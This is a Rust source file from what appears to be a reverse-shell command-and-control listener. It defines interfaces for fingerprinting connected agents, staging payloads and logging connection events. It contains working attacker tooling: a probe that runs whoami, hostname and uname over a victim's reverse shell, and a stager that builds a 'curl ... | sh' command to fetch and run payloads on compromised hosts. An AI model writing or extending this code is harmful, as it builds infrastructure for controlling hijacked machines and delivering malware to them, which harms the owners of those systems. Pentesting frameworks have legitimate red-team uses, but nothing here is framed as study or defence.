//! Interfaces to the collaborators that live outside the listener core:
//! identity probing, payload staging, registry event notification, and
//! live-output viewers.

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::time::Duration;

use crate::server::client::Client;
use crate::server::termite::TermiteClient;

/// Attributes gathered from a freshly connected agent by the identity probe.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ClientInfo {
    pub user: String,
    pub hostname: String,
    pub os: String,
    pub python2: String,
    pub python3: String,
}

/// Read-only registry record handed to the console layer and to notifiers.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ClientSnapshot {
    pub fingerprint: String,
    pub remote_addr: String,
    pub os: String,
    pub user: String,
    pub python: bool,
    pub alias: String,
    pub group_dispatch: bool,
    pub connected_at: DateTime<Utc>,
}

/// Probes a connection for the attributes that feed fingerprint derivation
/// and the registry display fields.
#[async_trait]
pub trait IdentityProbe: Send + Sync {
    /// Probe a plaintext reverse shell.
    async fn probe_plain(&self, client: &Client) -> crate::Result<ClientInfo>;

    /// Probe a termite agent over its secured channel.
    async fn probe_termite(&self, client: &TermiteClient) -> crate::Result<ClientInfo>;
}

/// Default probe: issues shell commands over the reverse shell and keeps
/// whatever answers arrive before the per-command deadline.
pub struct ShellProbe {
    timeout: Duration,
}

impl ShellProbe {
    pub fn new(timeout: Duration) -> Self {
        Self { timeout }
    }

    async fn command(&self, client: &Client, cmd: &str) -> Option<String> {
        client.write_all(format!("{}\n", cmd).as_bytes()).await.ok()?;
        let line = tokio::time::timeout(self.timeout, client.read_line())
            .await
            .ok()?
            .ok()?;
        let line = line.trim().to_string();
        (!line.is_empty()).then_some(line)
    }
}

#[async_trait]
impl IdentityProbe for ShellProbe {
    async fn probe_plain(&self, client: &Client) -> crate::Result<ClientInfo> {
        let mut info = ClientInfo::default();
        info.user = self.command(client, "whoami").await.unwrap_or_default();
        info.hostname = self.command(client, "hostname").await.unwrap_or_default();
        info.os = self.command(client, "uname -sr").await.unwrap_or_default();
        info.python2 = self
            .command(client, "python2 --version 2>&1")
            .await
            .unwrap_or_default();
        info.python3 = self
            .command(client, "python3 --version 2>&1")
            .await
            .unwrap_or_default();
        Ok(info)
    }

    async fn probe_termite(&self, client: &TermiteClient) -> crate::Result<ClientInfo> {
        // The termite envelope set carries no attribute-request message yet,
        // so identify encrypted agents by their endpoint.
        // TODO: extend the agent protocol with an info exchange during the
        // handshake and probe the real attributes here.
        Ok(ClientInfo {
            hostname: client.remote_addr().ip().to_string(),
            ..ClientInfo::default()
        })
    }
}

/// Translates a RaaS request target into a delivery command.
pub trait Stager: Send + Sync {
    fn uri_to_command(&self, uri: &str, host: &str) -> String;
}

/// Default stager: fetch the staged payload over plain HTTP and pipe it
/// into a shell.
pub struct CurlStager;

impl Stager for CurlStager {
    fn uri_to_command(&self, uri: &str, host: &str) -> String {
        format!("curl -fsSL http://{}{} | sh", host, uri)
    }
}

/// Registry events broadcast to external observers. Fire-and-forget.
#[derive(Debug, Clone, Serialize)]
#[serde(tag = "type", content = "data")]
pub enum RegistryEvent {
    ClientConnected {
        server: String,
        client: ClientSnapshot,
    },
    ClientDuplicated {
        server: String,
        client: ClientSnapshot,
    },
}

pub trait Notifier: Send + Sync {
    /// Delivery is best-effort; implementations log their own failures.
    fn notify(&self, event: RegistryEvent);
}

/// Default notifier: serializes events into the log stream.
pub struct LogNotifier;

impl Notifier for LogNotifier {
    fn notify(&self, event: RegistryEvent) {
        match serde_json::to_string(&event) {
            Ok(payload) => tracing::info!(target: "anteater::notify", %payload, "registry event"),
            Err(e) => tracing::warn!("Failed to serialize registry event: {}", e),
        }
    }
}

/// Marker distinguishing which remote stream a chunk of output came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StreamOrigin {
    Stdout,
}

impl StreamOrigin {
    /// Single-byte wire marker prepended by sinks that multiplex streams.
    pub fn marker(self) -> u8 {
        match self {
            StreamOrigin::Stdout => b'0',
        }
    }
}

/// Live-output viewer attached to one process session. Push-only, no
/// backpressure.
pub trait OutputSink: Send + Sync {
    fn write(&self, origin: StreamOrigin, data: &[u8]);
}
